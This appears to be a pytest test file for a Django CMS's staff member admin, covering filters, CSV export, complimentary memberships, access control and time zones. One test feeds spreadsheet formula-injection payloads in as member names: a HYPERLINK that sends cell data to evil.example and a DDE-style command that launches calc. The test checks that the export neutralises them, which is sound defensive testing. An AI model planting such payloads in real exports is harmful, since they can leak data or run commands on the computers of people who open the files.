"""Staff manage members in the CMS: list, filters, detail, CSV export, comp grants (import: test_import.py)."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone

from members.models import Member, Membership, Payment, Plan
from members.services import membership_grant_complimentary

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(client, db):
    user = get_user_model().objects.create_superuser("boss", "boss@example.com", "pw")
    client.force_login(user)
    return client


@pytest.fixture
def people(db):
    plan = Plan.objects.get(slug="member")
    ada = Member.objects.create(
        email="ada@example.com",
        name="Ada",
        status="active",
        plan=plan,
        source="banner",
        joined_at=timezone.now() - timedelta(days=40),
    )
    bo = Member.objects.create(
        email="bo@example.com",
        name="Bo",
        status="past_due",
        plan=plan,
        source="direct",
        joined_at=timezone.now() - timedelta(days=5),
    )
    Payment.objects.create(member=ada, purpose="donation", amount=2500, currency="usd", status="succeeded")
    return ada, bo


def test_the_list_filters_by_status_source_and_join_date_and_searches(admin_client, people):
    html = admin_client.get("/cms/members_admin/?status=past_due").content.decode()
    assert "bo@example.com" in html and "ada@example.com" not in html
    html = admin_client.get("/cms/members_admin/?source=banner").content.decode()
    assert "ada@example.com" in html and "bo@example.com" not in html
    since = (timezone.now() - timedelta(days=10)).date().isoformat()
    html = admin_client.get(f"/cms/members_admin/?joined_at_from={since}").content.decode()
    assert "bo@example.com" in html and "ada@example.com" not in html
    html = admin_client.get("/cms/members_admin/?q=ada").content.decode()
    assert "ada@example.com" in html and "bo@example.com" not in html


def test_the_detail_shows_payments_and_history(admin_client, people):
    ada, _ = people
    html = admin_client.get(f"/cms/members_admin/inspect/{ada.pk}/").content.decode()
    assert "$25" in html and "Grant a complimentary membership" in html


def test_the_list_exports_as_csv(admin_client, people):
    response = admin_client.get("/cms/members_admin/?export=csv")
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    assert "ada@example.com" in body and "bo@example.com" in body


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?"&A2,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(admin_client, people, name):
    import csv
    import io

    Member.objects.filter(email="bo@example.com").update(name=name)
    response = admin_client.get("/cms/members_admin/?export=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_email = {row["Email"]: row for row in rows}
    assert by_email["bo@example.com"]["Name"] == "'" + name
    assert by_email["ada@example.com"]["Name"] == "Ada"  # ordinary text is untouched


def test_members_are_not_visible_to_anonymous_readers(client, people):
    assert client.get("/cms/members_admin/").status_code == 302


def test_staff_grant_a_complimentary_membership_with_an_end_date(admin_client, people):
    _, bo = people
    ends = (timezone.now() + timedelta(days=90)).date().isoformat()
    response = admin_client.post(f"/cms/members-complimentary/{bo.pk}/", {"ends_on": ends, "note": "Press partner"})
    assert response.status_code == 302
    bo.refresh_from_db()
    comp = bo.memberships.get(kind=Membership.Kind.COMPLIMENTARY)
    assert comp.has_access and comp.granted_by == "boss" and bo.status == Member.Status.COMPLIMENTARY
    past = (timezone.now() - timedelta(days=1)).date().isoformat()
    response = admin_client.post(f"/cms/members-complimentary/{bo.pk}/", {"ends_on": past})
    assert response.status_code == 200 and b"future" in response.content


def test_a_complimentary_membership_ends_on_its_date(people):
    _, bo = people
    comp = membership_grant_complimentary(
        member=bo, plan=None, ends_at=timezone.now() + timedelta(seconds=1), note="", granted_by="x"
    )
    Membership.objects.filter(pk=comp.pk).update(access_until=timezone.now() - timedelta(seconds=1))
    comp.refresh_from_db()
    assert not comp.has_access


def test_the_list_shows_a_lapsed_complimentary_member_as_ended(admin_client, people):
    _, bo = people
    comp = membership_grant_complimentary(
        member=bo, plan=None, ends_at=timezone.now() + timedelta(days=1), note="", granted_by="x"
    )
    Membership.objects.filter(pk=comp.pk).update(access_until=timezone.now() - timedelta(seconds=1))
    Member.objects.filter(pk=bo.pk).update(access_until=timezone.now() - timedelta(seconds=1))
    html = admin_client.get("/cms/members_admin/?status=ended").content.decode()
    assert "bo@example.com" in html


def test_the_detail_shows_times_in_the_newsroom_time_zone(admin_client, people, settings):
    from datetime import UTC, datetime

    ada, _ = people
    settings.TIME_ZONE = "Europe/Berlin"
    Member.objects.filter(pk=ada.pk).update(joined_at=datetime(2026, 1, 15, 12, 0, tzinfo=UTC))
    ada.payments.update(paid_at=datetime(2026, 1, 15, 12, 0, tzinfo=UTC))
    html = admin_client.get(f"/cms/members_admin/inspect/{ada.pk}/").content.decode()
    assert "2026-01-15 13:00 CET" in html  # the joined field, in Berlin time, not 12:00 UTC
    assert "<td>2026-01-15 13:00</td>" in html  # the payments table, in the same zone
    assert "2026-01-15 12:00" not in html
